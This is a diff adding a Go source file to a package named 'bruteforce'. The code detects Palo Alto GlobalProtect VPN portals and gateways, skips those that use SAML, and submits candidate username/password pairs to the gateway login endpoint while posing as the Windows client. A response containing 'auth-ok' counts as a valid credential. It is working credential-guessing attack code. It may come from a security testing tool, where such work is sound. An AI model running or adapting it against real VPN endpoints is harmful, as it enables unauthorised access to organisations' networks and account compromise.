@@ -0,0 +1,150 @@
+package bruteforce
+
+import (
+	"context"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+)
+
+// GlobalProtect prelogin endpoints of the portal and of a gateway.
+const (
+	gpPortalPrelogin  = "/global-protect/prelogin.esp"
+	gpGatewayPrelogin = "/ssl-vpn/prelogin.esp"
+	gpGatewayLogin    = "/ssl-vpn/login.esp"
+)
+
+// gpPrelogin is what the prelogin of a GlobalProtect portal or gateway
+// tells about its login.
+type gpPrelogin struct {
+	XMLName       xml.Name `xml:"prelogin-response"`
+	Status        string   `xml:"status"`
+	Msg           string   `xml:"msg"`
+	AuthMessage   string   `xml:"authentication-message"`
+	UsernameLabel string   `xml:"username-label"`
+	PasswordLabel string   `xml:"password-label"`
+	SAMLMethod    string   `xml:"saml-auth-method"`
+	Region        string   `xml:"region"`
+
+	gateway bool // only the gateway answered, so logins go there
+}
+
+// gpGatewayBody marks a successful gateway login, whose answer carries
+// the tunnel's auth cookie.
+var gpGatewayBody = newBodyMatcher([]string{"(auth-ok)"}, nil, nil)
+
+// globalProtectPrelogin returns the prelogin of the GlobalProtect target
+// at base, asking the portal first and the gateway second, once per host
+// and port. Targets answering neither are not GlobalProtect, and portals
+// with SAML or an error status take no password logins; both are reported
+// as errors without sending credentials.
+func (e *Engine) globalProtectPrelogin(ctx context.Context, base string) (*gpPrelogin, error) {
+	host := base
+	if u, err := url.Parse(base); err == nil {
+		host = strings.ToLower(u.Host)
+	}
+	v, ok := e.gpPrelogins.Load(host)
+	if !ok {
+		var p *gpPrelogin
+		for _, path := range []string{gpPortalPrelogin, gpGatewayPrelogin} {
+			var err error
+			if p, err = e.fetchPrelogin(ctx, base+path); err != nil {
+				return nil, err
+			}
+			if p != nil {
+				p.gateway = path == gpGatewayPrelogin
+				break
+			}
+		}
+		v, _ = e.gpPrelogins.LoadOrStore(host, p)
+		if p != nil && e.logger != nil {
+			kind := "portal"
+			if p.gateway {
+				kind = "gateway"
+			}
+			e.logger("info", fmt.Sprintf("globalprotect %s: %s, realm %q, labels %q/%q",
+				host, kind, p.AuthMessage, p.UsernameLabel, p.PasswordLabel), "engine")
+		}
+	}
+
+	p := v.(*gpPrelogin)
+	switch {
+	case p == nil:
+		return nil, fmt.Errorf("%s: %w", host, errWrongVendor)
+	case p.SAMLMethod != "":
+		return nil, fmt.Errorf("%s: saml %s: %w", host, p.SAMLMethod, errNoPasswordLogin)
+	case !strings.EqualFold(p.Status, "success"):
+		return nil, fmt.Errorf("%s: prelogin %s %q: %w", host, p.Status, p.Msg, errNoPasswordLogin)
+	}
+	return p, nil
+}
+
+// fetchPrelogin requests the prelogin at target. It returns nil without
+// an error when the answer is no prelogin response.
+func (e *Engine) fetchPrelogin(ctx context.Context, target string) (*gpPrelogin, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, target,
+		strings.NewReader("tmp=tmp&clientVer=4100&clientos=Windows"))
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Close = true
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return nil, err
+	}
+	defer hr.Body.Close()
+	if hr.StatusCode != http.StatusOK {
+		return nil, nil
+	}
+	var p gpPrelogin
+	if xml.NewDecoder(io.LimitReader(hr.Body, maxBodyScan)).Decode(&p) != nil || p.Status == "" {
+		return nil, nil
+	}
+	return &p, nil
+}
+
+// checkGlobalProtectGateway logs in to a GlobalProtect gateway the way
+// the agent does.
+func (e *Engine) checkGlobalProtectGateway(ctx context.Context, base string, cred Credential, resp *Response, buf []byte) (bool, error) {
+	form := url.Values{
+		"prot":       {"https:"},
+		"server":     {strings.TrimPrefix(strings.TrimPrefix(base, "https://"), "http://")},
+		"inputStr":   {""},
+		"jnlpReady":  {"jnlpReady"},
+		"user":       {cred.Username},
+		"passwd":     {cred.Password},
+		"computer":   {""},
+		"ok":         {"Login"},
+		"direct":     {"yes"},
+		"clientVer":  {"4100"},
+		"clientos":   {"Windows"},
+		"os-version": {"Microsoft Windows 10 Pro , 64-bit"},
+	}
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+gpGatewayLogin, strings.NewReader(form.Encode()))
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Header.Set("Connection", "close")
+	req.Close = true
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return false, err
+	}
+	defer hr.Body.Close()
+
+	// Rejected logins come back with status 512.
+	body, err := gpGatewayBody.scan(hr, buf, resp)
+	if err != nil {
+		return false, err
+	}
+	return hr.StatusCode == http.StatusOK && body.final, nil
+}